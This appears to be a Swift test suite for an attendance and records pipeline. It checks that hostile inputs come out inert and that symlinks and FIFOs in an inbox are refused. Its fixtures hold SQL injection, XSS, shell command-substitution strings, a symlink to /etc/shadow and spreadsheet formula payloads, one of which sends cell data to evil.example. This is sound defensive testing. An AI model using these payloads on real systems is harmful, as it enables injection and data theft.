// Issue 8 item 2: a school feed whose values carry SQL, spreadsheet formulas, HTML, shell metacharacters,
// NUL bytes, a right-to-left override and a 100 kB name, in files whose names carry spaces, quotes and `..`,
// goes through extract → run → report → export; everything must come out inert and stay in the workspace.
import Foundation
import LastMileCore
import TestSupport
import Testing
import Warehouse

/// The riverside-usd default layout's columns, as the sample's file has them.
let riversideHeader =
    "student_id,first_name,middle_name,last_name,suffix,birth_date,sex,grade,school_id,school_name,attendance_date,attendance_code,minutes_absent,guardian_name,guardian_phone,address_line,city,state,postal_code,ferpa_basis"

/// One CSV field, quoted when it needs it (RFC 4180), as a district's export would write it.
func csvField(_ s: String) -> String {
    s.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" })
        ? "\"" + s.replacingOccurrences(of: "\"", with: "\"\"") + "\"" : s
}

@Suite(.serialized) struct HostileInputTests {
    @Test func hostileValuesAndFileNamesComeOutInert() throws {
        let workspace = try SampleWorkspace()
        let marker = "/tmp/lastmile-pwned-\(UUID().uuidString.prefix(8))"
        let sql = "'); DROP TABLE lastmile.flag; --"
        // Values that reach the list: the school id and grade of the latest day of a flagged student.
        let onTheList = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "<script>alert('x')</script>", sql, "$(touch \(marker))", "`touch \(marker)`; echo hi",
            "abc\u{202E}fdp.exe",
        ]
        let inbox = workspace.sampleData.appendingPathComponent("inbox/riverside-usd")
        let outside = workspace.root.deletingLastPathComponent()
        let outsideBefore = Set(try FileManager.default.contentsOfDirectory(atPath: outside.path))

        try TestDatabase.withFreshDatabase { url in
            let env = ["LASTMILE_DATABASE_URL": url]
            let first = try LastMileBinary.run(
                ["run", "pipelines/nightly.yaml", "--as-of", "2026-11-20"], in: workspace.root, environment: env)
            #expect(first.status == 0, "\(first.stderr)")
            let db = try Connection(url)
            // Riverside students with an active flag and a practice, so their school ids reach a list.
            let students = try db.execute(
                """
                SELECT DISTINCT a.student_id FROM lastmile.attendance_day a
                JOIN lastmile.flag f ON f.patient_id = a.patient_id AND f.source = a.source AND f.status = 'active'
                JOIN lastmile.attribution t ON t.patient_id = a.patient_id
                WHERE a.source = 'riverside-usd' ORDER BY a.student_id
                """
            ).rows.compactMap { $0[0] }
            #expect(students.count >= 3)
            let original = try String(
                contentsOf: inbox.appendingPathComponent("attendance-2026-11-20.csv"), encoding: .utf8)
            let columns = riversideHeader.split(separator: ",").map(String.init)
            #expect(original.hasPrefix(riversideHeader))
            let index = Dictionary(uniqueKeysWithValues: columns.enumerated().map { ($1, $0) })
            var resent: [String] = []
            var hostileOf: [String: String] = [:]
            for (n, student) in students.enumerated() {
                let value = onTheList[n % onTheList.count]
                hostileOf[student] = value
                for line in original.split(separator: "\n").dropFirst() {
                    var f = line.split(separator: ",", omittingEmptySubsequences: false).map(String.init)
                    guard f.count == columns.count, f[index["student_id"]!] == student else { continue }
                    f[index["school_id"]!] = value
                    f[index["grade"]!] = value
                    f[index["school_name"]!] = value
                    // Not the address: it counts in matching, and these students must still match.
                    f[index["guardian_name"]!] = "$(touch \(marker)) `touch \(marker)`; <b>x</b> \(sql)"
                    resent.append(f.map(csvField).joined(separator: ","))
                }
            }
            // Students no patient matches, whose names carry the same payloads and a 100 kB name.
            let huge = String(repeating: "Ab", count: 50_000)
            let names = [
                sql, "=HYPERLINK(\"http://evil.example\")", "<script>alert(1)</script>", "$(touch \(marker))",
                "Ann\u{202E}eiL", huge,
            ]
            for (n, name) in names.enumerated() {
                resent.append(
                    [
                        "99\(9000 + n)", name, "", name, "", "2015-03-0\(n + 1)", "F", "5", "102",
                        "Millbrook Elementary School",
                        "2026-11-18", "A", "", "", "", "", "Oakdale", "OR", "97420", "",
                    ].map(csvField).joined(separator: ","))
            }
            // File names a careless upload could produce: spaces, quotes, `..`.
            let hostileName = "attendance-2026-11-21 copy \"1\" '..' ..csv"
            try (riversideHeader + "\n" + resent.joined(separator: "\n") + "\n").write(
                to: inbox.appendingPathComponent(hostileName), atomically: true, encoding: .utf8)
            // A NUL byte inside one row of another file: that row is rejected, the others load.
            var nul = Data((riversideHeader + "\n").utf8)
            nul.append(Data("998001,Nul".utf8))
            nul.append(0)
            nul.append(
                Data(
                    "ly,,Zero,,2015-04-04,F,5,102,Millbrook Elementary School,2026-11-18,A,,,,,Oakdale,OR,97420,\n".utf8
                ))
            // A present day: a file with none is refused as absence-only (issue 16).
            nul.append(
                Data(
                    "998002,Plain,,Row,,2015-04-05,F,5,102,Millbrook Elementary School,2026-11-18,P,,,,,Oakdale,OR,97420,\n"
                        .utf8))
            try nul.write(to: inbox.appendingPathComponent("attendance-2026-11-21-..-nul.csv"))

            // extract (the dry run) reads every hostile file without crashing.
            let extract = try LastMileBinary.run(
                [
                    "extract", "--source", "riverside-usd", inbox.appendingPathComponent(hostileName).path,
                    inbox.appendingPathComponent("attendance-2026-11-21-..-nul.csv").path,
                ],
                in: workspace.root)
            #expect(extract.status == 0, "\(extract.stderr)")

            let second = try LastMileBinary.run(
                ["run", "pipelines/nightly.yaml", "--as-of", "2026-11-21"], in: workspace.root, environment: env)
            #expect(second.status == 0, "\(second.stderr)")

            // The warehouse is intact: every table still there, the flags kept, the hostile file recorded.
            for table in ["flag", "attendance_day", "patient", "run", "rejected_row", "ingested_file"] {
                #expect(try db.execute("SELECT to_regclass($1) IS NOT NULL", ["lastmile." + table]).scalar == "t")
            }
            #expect(Int(try db.execute("SELECT count(*) FROM lastmile.flag").scalar ?? "") ?? 0 > 0)
            #expect(
                try db.execute("SELECT count(*) FROM lastmile.ingested_file WHERE file_name = $1", [hostileName]).scalar
                    == "1")
            for (student, value) in hostileOf {
                let stored = try db.execute(
                    "SELECT DISTINCT school_id FROM lastmile.attendance_day WHERE source = 'riverside-usd' AND student_id = $1",
                    [student]
                ).rows.compactMap { $0[0] }
                #expect(stored == [value], "\(student)")
            }
            // The NUL row is quarantined by line; the row after it loads or is dealt with on its own.
            let nulRejects = try db.execute(
                "SELECT line FROM lastmile.rejected_row WHERE file_name = 'attendance-2026-11-21-..-nul.csv'"
            ).rows.compactMap { $0.int("line") }
            #expect(nulRejects == [2])
            #expect(
                try db.execute("SELECT status FROM lastmile.run ORDER BY run_id").rows.compactMap { $0[0] } == [
                    "succeeded", "succeeded",
                ])

            let report = try LastMileBinary.run(
                [
                    "report", "absenteeism", "--pipeline", "pipelines/monday-absenteeism.yaml", "--week-of",
                    "2026-11-23", "--as-of", "2026-11-23", "--all-practices", "--no-deliver",
                ], in: workspace.root, environment: env)
            #expect(report.status == 0, "\(report.stderr)")
            let lists = try PrivacyAuditTests.files(under: workspace.root.appendingPathComponent("outbox"))
            let csv = try lists.filter { $0.hasSuffix(".csv") }.map { try String(contentsOfFile: $0, encoding: .utf8) }
                .joined()
            let html = try lists.filter { $0.hasSuffix(".html") }.map {
                try String(contentsOfFile: $0, encoding: .utf8)
            }.joined()
            // Each payload reached a list, neutralised: formulas start with ', HTML is escaped.
            for value in Set(hostileOf.values) {
                if let c = value.first, "=+-@".contains(c) {
                    #expect(csv.contains("'" + value.prefix(8)) || csv.contains("\"'" + value.prefix(8)), "\(value)")
                }
                #expect(html.contains(htmlEscapeForTest(value)), "\(value) not escaped in the HTML")
            }
            for cell in Self.csvCells(csv) {
                if let c = cell.first {
                    #expect(!"=+-@\t\r".contains(c) || Double(cell) != nil, "formula cell \(cell)")
                }
            }
            // A right-to-left override is shown, not obeyed, in both lists (when a flagged student carries it,
            // the loop above finds it written out as [U+202E]).
            #expect(!(csv + html).unicodeScalars.contains("\u{202E}"))
            if hostileOf.values.contains(where: { $0.unicodeScalars.contains("\u{202E}") }) {
                #expect(csv.contains("abc[U+202E]fdp.exe"))
            }
            #expect(!html.contains("<script>alert"))
            #expect(!html.contains("<b>x</b>"))

            let export = try TemporaryDirectory()
            let fhir = try LastMileBinary.run(
                [
                    "export", "fhir", "--since", "2026-01-01", "--out", export.url.path, "--recipient",
                    "practice:riverside-peds", "--as-of", "2026-11-23",
                ], in: workspace.root, environment: env)
            #expect(fhir.status == 0, "\(fhir.stderr)")
            for file in ["Flag.ndjson", "Patient.ndjson"] {
                let text = try String(contentsOf: export.url.appendingPathComponent(file), encoding: .utf8)
                for line in text.split(separator: "\n") {
                    #expect((try? JSONSerialization.jsonObject(with: Data(line.utf8))) is [String: Any])
                }
            }

            // Nothing ran, nothing escaped the workspace.
            #expect(!FileManager.default.fileExists(atPath: marker))
            let outsideAfter = Set(try FileManager.default.contentsOfDirectory(atPath: outside.path))
            // The temporary folder is shared with other processes: look for what this pipeline would write.
            let ours = ["attendance", "absenteeism", "nightly", "rejects", "outbox", "pwned", "Flag", "Patient", ".."]
            // (Not any new .csv or .html: other test processes and tools write those there at the same time.)
            let newOutside = outsideAfter.subtracting(outsideBefore).filter { name in
                ours.contains { name.contains($0) }
            }
            #expect(newOutside.isEmpty, "written next to the workspace: \(newOutside.sorted())")
            // Logs and messages name files and lines, never the values (extract's table shows school ids).
            for output in [first, extract, second, report, fhir] {
                #expect(!output.stderr.contains(sql) && !output.stderr.contains("<script>"))
                #expect(!output.stderr.contains(marker))
            }
            #expect(!report.stdout.contains(sql) && !fhir.stdout.contains(sql))
        }
    }

    /// The cells of a CSV text (RFC 4180 quoting), for checking how each one starts.
    static func csvCells(_ text: String) -> [String] {
        var cells: [String] = []
        var cell = ""
        var quoted = false
        var iterator = text.makeIterator()
        var pending: Character? = nil
        while let c = pending ?? iterator.next() {
            pending = nil
            if quoted {
                if c == "\"" {
                    if let next = iterator.next() {
                        if next == "\"" {
                            cell.append("\"")
                        } else {
                            quoted = false
                            pending = next
                        }
                    } else {
                        quoted = false
                    }
                } else {
                    cell.append(c)
                }
            } else if c == "\"" {
                quoted = true
            } else if c == "," || c == "\n" || c == "\r\n" {
                cells.append(cell)
                cell = ""
            } else {
                cell.append(c)
            }
        }
        cells.append(cell)
        return cells.map { $0.hasPrefix("\u{FEFF}") ? String($0.dropFirst()) : $0 }
    }
}

/// What an HTML-escaped value must look like (the five characters that matter).
func htmlEscapeForTest(_ s: String) -> String {
    s.replacingOccurrences(of: "\u{202E}", with: "[U+202E]").replacingOccurrences(of: "&", with: "&amp;")
        .replacingOccurrences(of: "<", with: "&lt;")
        .replacingOccurrences(of: ">", with: "&gt;").replacingOccurrences(of: "\"", with: "&quot;")
        .replacingOccurrences(of: "'", with: "&#39;")
}

// Issue 13 item 5: inputs that are not regular files. A symbolic link (to a CSV outside the inbox, to
// /etc/shadow, to a folder inside an HMIS export) is not followed and a FIFO does not hang the run: each is
// refused by name with exit 65 while the regular inputs still load; an inbox anyone can write to is warned of.
extension HostileInputTests {
    /// Runs the binary, killing it after `seconds`; nil when it had to be killed (it hung).
    func runBounded(_ arguments: [String], in directory: URL, environment: [String: String], seconds: Int) throws
        -> CommandResult?
    {
        let finished = DispatchSemaphore(value: 0)
        nonisolated(unsafe) var result: CommandResult?
        let pid = ProcessIdentity()
        let thread = Thread {
            result = try? LastMileBinary.run(arguments, in: directory, environment: environment)
            finished.signal()
        }
        thread.start()
        guard finished.wait(timeout: .now() + .seconds(seconds)) == .timedOut else { return result }
        pid.killChildren(named: "lastmile")
        finished.wait()
        return nil
    }

    @Test func linksFIFOsAndFoldersInAnInboxAreRefusedByNameAndTheRestLoads() throws {
        let workspace = try SampleWorkspace()
        let inbox = workspace.sampleData.appendingPathComponent("inbox")
        let outside = workspace.root.appendingPathComponent("elsewhere")
        try FileManager.default.createDirectory(at: outside, withIntermediateDirectories: true)
        let original = inbox.appendingPathComponent("riverside-usd/attendance-2026-11-20.csv")
        let foreign = outside.appendingPathComponent("attendance.csv")
        let copy = try String(contentsOf: original, encoding: .utf8) + "\n"
        try copy.write(to: foreign, atomically: true, encoding: .utf8)
        let fm = FileManager.default
        try fm.createSymbolicLink(
            atPath: inbox.appendingPathComponent("riverside-usd/attendance-2026-11-21.csv").path,
            withDestinationPath: foreign.path)
        try fm.createSymbolicLink(
            atPath: inbox.appendingPathComponent("riverside-usd/attendance-shadow.csv").path,
            withDestinationPath: "/etc/shadow")
        try fm.createSymbolicLink(
            atPath: inbox.appendingPathComponent("coc-hmis/hmis-export-2026-11-20/Extra.csv").path,
            withDestinationPath: outside.path)
        #expect(mkfifo(inbox.appendingPathComponent("ce-by-name-list/housing-2026-11-21.csv").path, 0o600) == 0)
        #expect(chmod(inbox.appendingPathComponent("lakeside-edfi").path, 0o777) == 0)

        try TestDatabase.withFreshDatabase { url in
            let run = try runBounded(
                ["run", "pipelines/nightly.yaml", "--as-of", "2026-11-20"], in: workspace.root,
                environment: ["LASTMILE_DATABASE_URL": url], seconds: 180)
            let result = try #require(run, "the run hung on an input")
            #expect(result.status == 79, "\(result.stderr)")
            for name in [
                "attendance-2026-11-21.csv is a symbolic link", "attendance-shadow.csv is a symbolic link",
                "hmis-export-2026-11-20/Extra.csv is a symbolic link", "housing-2026-11-21.csv is a FIFO",
            ] {
                #expect(result.stderr.contains(name), "\(name) not reported")
            }
            #expect(result.stderr.contains("writable by other users"))
            #expect(!result.stderr.contains("NSCocoaErrorDomain"))
            let db = try Connection(url)
            let loaded = Set(
                try db.execute("SELECT file_name FROM lastmile.ingested_file").rows.compactMap { $0["file_name"] })
            #expect(
                loaded == [
                    "attendance-2026-11-20.csv", "attendance-events-2026-11-20.csv",
                    "bookings-2026-11-20.csv", "housing-2026-11-20.csv",
                ])
            #expect(try db.execute("SELECT status FROM lastmile.run").scalar == "succeeded")
        }
    }
}

extension HostileInputTests {
    @Test func aFIFOInAnInboxDoesNotHangTheRun() throws {
        let workspace = try SampleWorkspace()
        let fifo = workspace.sampleData.appendingPathComponent("inbox/county-jail/bookings-2026-11-21.csv")
        #expect(mkfifo(fifo.path, 0o600) == 0)
        try TestDatabase.withFreshDatabase { url in
            let run = try runBounded(
                ["run", "pipelines/nightly.yaml", "--as-of", "2026-11-20"], in: workspace.root,
                environment: ["LASTMILE_DATABASE_URL": url], seconds: 120)
            let result = try #require(run, "the run hung on a FIFO (holding the run lock)")
            #expect(result.status == 79, "\(result.stderr)")
            #expect(result.stderr.contains("bookings-2026-11-21.csv is a FIFO"))
            let loaded = try Connection(url).execute("SELECT count(*) FROM lastmile.ingested_file").scalar
            #expect(loaded == "5")
        }
    }
}

/// Finds and kills this process's child processes of a name (a hung `lastmile` a test started).
struct ProcessIdentity {
    let parent = getpid()

    func killChildren(named name: String) {
        for entry in (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? [] {
            guard let pid = Int32(entry),
                let stat = try? String(contentsOfFile: "/proc/\(entry)/stat", encoding: .utf8),
                let close = stat.lastIndex(of: ")")
            else { continue }
            let command = stat[stat.index(after: stat.firstIndex(of: "(") ?? stat.startIndex)..<close]
            let fields = stat[stat.index(after: close)...].split(separator: " ")
            if command == name, fields.count > 1, Int32(fields[1]) == parent { kill(pid, SIGKILL) }
        }
    }
}
